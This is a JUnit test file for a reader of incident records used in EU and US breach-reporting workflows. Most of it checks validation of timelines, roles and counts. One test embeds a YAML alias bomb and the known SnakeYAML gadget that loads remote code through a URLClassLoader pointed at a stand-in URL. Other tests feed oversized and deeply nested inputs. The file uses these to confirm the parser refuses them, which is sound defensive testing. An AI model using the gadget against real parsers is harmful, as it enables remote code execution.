package dev.tandem.reporting.incident;

import static org.assertj.core.api.Assertions.assertThat;
import static org.assertj.core.api.Assertions.assertThatThrownBy;

import dev.tandem.input.InputDocument;
import dev.tandem.input.InputException;
import dev.tandem.reporting.catalog.CatalogLoader;
import java.nio.file.Path;
import org.junit.jupiter.api.Test;

class IncidentReaderTest {

    private final IncidentReader reader = new IncidentReader(CatalogLoader.bundled());

    private static final String MINIMAL = """
            {"entity": {"name": "Acme", "timeZone": "Europe/Berlin", "euMainEstablishment": "DE", "roles": ["cra-manufacturer"]},
             "event": {"kind": "vulnerability", "activelyExploited": true},
             "timeline": {"awareAt": "2026-11-20T23:30:00+01:00"}%s}
            """;

    private IncidentReadResult read(String extra) throws InputException {
        return reader.read("incident.json", MINIMAL.formatted(extra));
    }

    @Test
    void readsTheBundledExamples() throws Exception {
        IncidentReadResult router = reader.read(InputDocument.read(Path.of("../examples/incidents/router-exploited-vulnerability.json")));
        assertThat(router.issues()).isEmpty();
        assertThat(router.record().entity().roles()).containsExactly("cra-manufacturer");
        assertThat(router.record().timeline().get("awareAt")).hasValueSatisfying(t -> assertThat(t.toString()).isEqualTo("2026-11-20T23:30+01:00"));
        IncidentReadResult ransomware = reader.read(InputDocument.read(Path.of("../examples/incidents/ransomware-energy-operator.yaml")));
        assertThat(ransomware.issues()).isEmpty();
        assertThat(ransomware.record().event().flag("material")).isTrue();
        assertThat(ransomware.record().submissions()).hasSize(2);
        assertThat(ransomware.record().valueAt("content.ransom.amountPaid")).isPresent();
    }

    @Test
    void unknownKeysAreWarningsWithTheirPath() throws Exception {
        IncidentReadResult result = reader.read("incident.json", """
                {"entity": {"name": "Acme", "timeZone": "UTC", "colour": "red"},
                 "event": {"kind": "incident", "activelyExploted": true},
                 "timeline": {"awareAt": "2026-11-20T23:30:00Z", "patchedAt": "2026-11-21T00:00:00Z"},
                 "content": {"descripton": "typo", "ransom": {"amount": 5}},
                 "extra": 1}
                """);
        assertThat(result.issues()).extracting(RecordIssue::path).containsExactlyInAnyOrder(
                "/extra", "/entity/colour", "/event/activelyExploted", "/timeline/patchedAt", "/content/descripton",
                "/content/ransom/amount");
        assertThat(result.issues()).allSatisfy(i -> assertThat(i.severity()).isEqualTo(IssueSeverity.WARNING));
        assertThat(result.record().event().flag("activelyExploited")).isFalse();
    }

    @Test
    void unknownRolesAreWarnings() throws Exception {
        IncidentReadResult result = reader.read("incident.json", """
                {"entity": {"name": "Acme", "timeZone": "UTC", "roles": ["cra-manufacturer", "nis2-essentiel"]},
                 "event": {"kind": "incident"}, "timeline": {"awareAt": "2026-11-20T23:30:00Z"}}
                """);
        assertThat(result.record().entity().roles()).containsExactly("cra-manufacturer");
        assertThat(result.issues()).singleElement().satisfies(i -> {
            assertThat(i.path()).isEqualTo("/entity/roles/1");
            assertThat(i.message()).contains("nis2-essentiel");
        });
    }

    @Test
    void aDateTimeWithoutOffsetIsRejected() {
        assertThatThrownBy(() -> reader.read("incident.json", MINIMAL.formatted("").replace("+01:00", "")))
                .isInstanceOf(InputException.class)
                .hasMessageContaining("incident.json")
                .hasMessageContaining("/timeline/awareAt")
                .hasMessageContaining("no offset");
        assertThatThrownBy(() -> reader.read("incident.json", MINIMAL.formatted("").replace("2026-11-20T23:30:00+01:00", "2026-11-20")))
                .isInstanceOf(InputException.class).hasMessageContaining("no offset");
    }

    @Test
    void aZoneIdSuffixIsAcceptedWithItsOffset() throws Exception {
        IncidentReadResult result = reader.read("incident.json", MINIMAL.formatted("")
                .replace("+01:00", "+01:00[Europe/Berlin]"));
        assertThat(result.record().timeline().get("awareAt").orElseThrow().getOffset().getTotalSeconds()).isEqualTo(3600);
    }

    @Test
    void ransomPaidBeforeAwarenessIsImpossible() {
        assertThatThrownBy(() -> reader.read("incident.json", MINIMAL.formatted("")
                .replace("}%s", "").replace("\"awareAt\": \"2026-11-20T23:30:00+01:00\"",
                        "\"awareAt\": \"2026-11-20T23:30:00+01:00\", \"ransomPaidAt\": \"2026-11-20T10:00:00+01:00\"")))
                .isInstanceOf(InputException.class)
                .hasMessageContaining("ransomPaidAt")
                .hasMessageContaining("before awareAt")
                .satisfies(e -> assertThat(((InputException) e).position().pointer()).isEqualTo("/timeline/ransomPaidAt"));
    }

    @Test
    void aSubmissionBeforeItsClockStartIsImpossible() {
        assertThatThrownBy(() -> read(", \"submissions\": [{\"framework\": \"eu-cra-vulnerability\", \"stage\": \"early-warning\","
                + " \"at\": \"2026-11-20T20:00:00+01:00\"}]"))
                .isInstanceOf(InputException.class)
                .hasMessageContaining("before its clock started")
                .satisfies(e -> assertThat(((InputException) e).position().pointer()).isEqualTo("/submissions/0/at"));
    }

    @Test
    void aChainedSubmissionBeforeTheEarlierStageIsImpossible() {
        assertThatThrownBy(() -> reader.read("incident.json", """
                {"entity": {"name": "Acme", "timeZone": "Europe/Berlin", "roles": ["cra-manufacturer"]},
                 "event": {"kind": "incident", "severe": true},
                 "timeline": {"awareAt": "2026-11-20T10:00:00+01:00"},
                 "submissions": [
                   {"framework": "eu-cra-incident", "stage": "notification", "at": "2026-11-22T10:00:00+01:00"},
                   {"framework": "eu-cra-incident", "stage": "final-report", "at": "2026-11-21T10:00:00+01:00"}]}
                """)).isInstanceOf(InputException.class).hasMessageContaining("submission of notification");
    }

    @Test
    void unknownFrameworkOrStageInASubmissionIsAnError() {
        assertThatThrownBy(() -> read(", \"submissions\": [{\"framework\": \"eu-nis3\", \"stage\": \"x\", \"at\": \"2026-11-21T10:00:00Z\"}]"))
                .isInstanceOf(InputException.class).hasMessageContaining("unknown framework 'eu-nis3'");
        assertThatThrownBy(() -> read(", \"submissions\": [{\"framework\": \"eu-nis2\", \"stage\": \"form-8k\", \"at\": \"2026-11-21T10:00:00Z\"}]"))
                .isInstanceOf(InputException.class).hasMessageContaining("no stage 'form-8k'");
    }

    @Test
    void everyErrorIsListedNotOnlyTheFirst() {
        assertThatThrownBy(() -> reader.read("incident.json", """
                {"entity": {"timeZone": "Mars/Olympus"}, "event": {"kind": "accident", "severe": "yes"},
                 "timeline": {"awareAt": 20261120}}
                """))
                .isInstanceOf(InputException.class)
                .hasMessageContaining("Mars/Olympus")
                .hasMessageContaining("/event/kind")
                .hasMessageContaining("/event/severe")
                .hasMessageContaining("/timeline/awareAt");
    }

    @Test
    void missingSectionsAndNonObjectsAreErrors() {
        assertThatThrownBy(() -> reader.read("incident.json", "{\"entity\": {}}"))
                .isInstanceOf(InputException.class).hasMessageContaining("/event").hasMessageContaining("/timeline");
        assertThatThrownBy(() -> reader.read("incident.json", "[1, 2]"))
                .isInstanceOf(InputException.class).hasMessageContaining("must be an object");
        assertThatThrownBy(() -> reader.read("incident.yaml", "just a string"))
                .isInstanceOf(InputException.class).hasMessageContaining("incident.yaml");
    }

    @Test
    void implausibleYearsAreRejectedBeforeAnyArithmetic() {
        assertThatThrownBy(() -> reader.read("incident.json", MINIMAL.formatted("").replace("2026-11-20", "+999999-11-20")))
                .isInstanceOf(InputException.class);
        assertThatThrownBy(() -> reader.read("incident.json", MINIMAL.formatted("").replace("2026-11-20", "1066-10-14")))
                .isInstanceOf(InputException.class).hasMessageContaining("year 1066");
    }

    @Test
    void truncatedJsonNamesTheLine() {
        assertThatThrownBy(() -> reader.read("incident.json", "{\n \"entity\": {\"name\": \"Acme\",\n"))
                .isInstanceOf(InputException.class)
                .hasMessageStartingWith("incident.json: line 3");
    }

    @Test
    void aYamlLineTooLongToParseQuicklyIsRefusedBeforeParsing() {
        String yaml = "entity:\n  name: Acme\ncontent:\n  description: " + "x".repeat(300 * 1024) + "\n";
        assertThatThrownBy(() -> reader.read("incident.yaml", yaml))
                .isInstanceOf(InputException.class)
                .hasMessageStartingWith("incident.yaml: line 4")
                .hasMessageContaining("longer than");
    }

    @Test
    void deepNestingIsRefused() {
        String deep = "{\"content\": {\"description\": " + "[".repeat(5000) + "]".repeat(5000) + "}}";
        assertThatThrownBy(() -> reader.read("incident.json", deep))
                .isInstanceOf(InputException.class).hasMessageContaining("nesting depth");
    }

    @Test
    void limitViolationsNameTheLineWhereTheyHappen() {
        String deep = "{\n\"content\": {\"description\":\n" + "[".repeat(5000) + "]".repeat(5000) + "}}";
        assertThatThrownBy(() -> reader.read("incident.json", deep)).isInstanceOfSatisfying(InputException.class, e -> {
            assertThat(e.position().line()).isEqualTo(3);
            assertThat(e.getMessage()).startsWith("incident.json: line 3, column ").contains("nesting depth");
        });
        String huge = "{\"entity\": {\n\"name\": \"" + "A".repeat((1 << 20) + 10) + "\"}}";
        assertThatThrownBy(() -> reader.read("incident.json", huge)).isInstanceOfSatisfying(InputException.class, e -> {
            assertThat(e.position().line()).isEqualTo(2);
            assertThat(e.problem()).contains("String value length");
        });
        String deepYaml = "entity:\n  name: x\ncontent:\n  description: " + "[".repeat(200) + "]".repeat(200) + "\n";
        assertThatThrownBy(() -> reader.read("incident.yaml", deepYaml)).isInstanceOfSatisfying(InputException.class, e ->
                assertThat(e.position().line()).isEqualTo(4));
    }

    @Test
    void hugeStringsAreRefused() {
        String huge = MINIMAL.formatted(", \"content\": {\"description\": \"" + "x".repeat((1 << 20) + 10) + "\"}");
        assertThatThrownBy(() -> reader.read("incident.json", huge))
                .isInstanceOf(InputException.class).hasMessageContaining("String value length");
    }

    @Test
    void hugeHostileKeysAreShortenedInMessages() throws Exception {
        String key = "k".repeat(10_000);
        IncidentReadResult result = read(", \"" + key + "\": 1");
        assertThat(result.issues()).singleElement().satisfies(i -> assertThat(i.describe().length()).isLessThan(300));
    }

    @Test
    void yamlAliasesAndCustomTagsDoNotExpandOrExecute() {
        String bomb = """
                entity: {name: Acme, timeZone: UTC}
                event: {kind: incident}
                timeline: {awareAt: "2026-11-20T23:30:00Z"}
                content:
                  a: &a [x, x, x, x, x, x, x, x, x, x]
                  b: &b [*a, *a, *a, *a, *a, *a, *a, *a, *a, *a]
                  c: &c [*b, *b, *b, *b, *b, *b, *b, *b, *b, *b]
                  description: !!javax.script.ScriptEngineManager [!!java.net.URLClassLoader [[!!java.net.URL ["http://x"]]]]
                """;
        try {
            IncidentReadResult result = reader.read("incident.yaml", bomb);
            assertThat(result.issues()).extracting(RecordIssue::path).contains("/content/a", "/content/b", "/content/c");
        } catch (InputException e) {
            assertThat(e.getMessage()).startsWith("incident.yaml");
        }
    }

    @Test
    void yamlRecordsReadLikeJson() throws Exception {
        IncidentReadResult result = reader.read("incident.yaml", """
                entity:
                  name: Acme
                  timeZone: Europe/Berlin
                  roles: [cra-manufacturer]
                event: {kind: vulnerability, activelyExploited: true}
                timeline:
                  awareAt: 2026-11-20T23:30:00+01:00
                """);
        assertThat(result.record().timeline().get("awareAt")).isPresent();
        assertThat(result.issues()).isEmpty();
    }

    @Test
    void doubtfulTimelinesAreWarnings() throws Exception {
        IncidentReadResult result = reader.read("incident.json", """
                {"entity": {"name": "Acme", "timeZone": "UTC"}, "event": {"kind": "vulnerability"},
                 "timeline": {"awareAt": "2026-11-20T23:30:00Z", "correctiveMeasureAvailableAt": "2026-11-01T00:00:00Z",
                              "discoveredAt": "2026-11-21T00:00:00Z"}}
                """);
        assertThat(result.issues()).extracting(RecordIssue::path)
                .containsExactlyInAnyOrder("/timeline/correctiveMeasureAvailableAt", "/timeline/discoveredAt");
    }

    /** An event can be both a severe incident and an actively exploited vulnerability: kind takes a list. */
    @Test
    void kindIsOneKindOrAListOfThem() throws Exception {
        String both = """
                {"entity": {"name": "Acme", "timeZone": "UTC"}, "event": {"kind": ["incident", "vulnerability"]},
                 "timeline": {"awareAt": "2026-11-20T23:30:00Z"}}
                """;
        Event event = reader.read("incident.json", both).record().event();
        assertThat(event.kinds()).containsExactly("incident", "vulnerability");
        assertThat(event.hasKind("vulnerability")).isTrue();
        IncidentReadResult twice = reader.read("incident.json", both.replace("\"vulnerability\"]", "\"incident\"]"));
        assertThat(twice.issues()).extracting(RecordIssue::path).containsExactly("/event/kind/1");
        assertThat(twice.record().event().kinds()).containsExactly("incident");
        assertThatThrownBy(() -> reader.read("incident.json", both.replace("\"vulnerability\"]", "\"breach\"]")))
                .isInstanceOf(InputException.class).hasMessageContaining("/event/kind/1").hasMessageContaining("not 'breach'");
        assertThatThrownBy(() -> reader.read("incident.json", both.replace("[\"incident\", \"vulnerability\"]", "[1]")))
                .isInstanceOf(InputException.class).hasMessageContaining("/event/kind/0");
        IncidentReadResult empty = reader.read("incident.json", both.replace("[\"incident\", \"vulnerability\"]", "[]"));
        assertThat(empty.issues()).extracting(RecordIssue::path).containsExactly("/event/kind");
    }

    /** The numbers HIPAA's thresholds read: whole numbers of people, per jurisdiction where asked. */
    @Test
    void affectedCountsAreWholeNumbersAndBadOnesAreErrorsWithTheirPath() throws Exception {
        String yaml = """
                entity: {name: Acme, timeZone: America/New_York}
                event: {kind: incident, affectedIndividuals: %s, affectedResidents: %s}
                timeline: {awareAt: "2026-11-20T10:00:00-05:00"}
                """;
        Event event = reader.read("i.yaml", yaml.formatted("1200", "{NY: 800, NJ: 400}")).record().event();
        assertThat(event.affectedIndividuals()).isEqualTo(1200L);
        assertThat(event.largestJurisdiction()).contains(800L);
        assertThatThrownBy(() -> reader.read("i.yaml", yaml.formatted("-1", "null"))).isInstanceOf(InputException.class)
                .hasMessageContaining("/event/affectedIndividuals").hasMessageContaining("whole number");
        assertThatThrownBy(() -> reader.read("i.yaml", yaml.formatted("12.5", "null"))).isInstanceOf(InputException.class)
                .hasMessageContaining("/event/affectedIndividuals");
        assertThatThrownBy(() -> reader.read("i.yaml", yaml.formatted("null", "{NY: many}"))).isInstanceOf(InputException.class)
                .hasMessageContaining("/event/affectedResidents/NY");
        assertThatThrownBy(() -> reader.read("i.yaml", yaml.formatted("null", "[NY]"))).isInstanceOf(InputException.class)
                .hasMessageContaining("/event/affectedResidents");
        assertThatThrownBy(() -> reader.read("i.yaml", yaml.formatted("99999999999999999999999", "null")))
                .isInstanceOf(InputException.class).hasMessageContaining("/event/affectedIndividuals");
        IncidentReadResult inconsistent = reader.read("i.yaml", yaml.formatted("100", "{NY: 800}"));
        assertThat(inconsistent.issues()).extracting(RecordIssue::path).containsExactly("/event/affectedResidents");
    }

    /** Declared roles stay as declared; the roles they imply are added for the rules, never in their place. */
    @Test
    void declaredRolesKeepTheirOrderAndImpliedOnesFollow() throws Exception {
        Entity entity = reader.read("i.yaml", """
                entity: {name: Bank, timeZone: Europe/Dublin, roles: [gdpr-controller, dora-credit-institution]}
                event: {kind: incident}
                timeline: {awareAt: "2026-11-20T10:00:00Z"}
                """).record().entity();
        assertThat(entity.roles()).containsExactly("gdpr-controller", "dora-credit-institution");
        assertThat(entity.effectiveRoles()).containsExactly("gdpr-controller", "dora-credit-institution", "dora-financial-entity");
    }
}
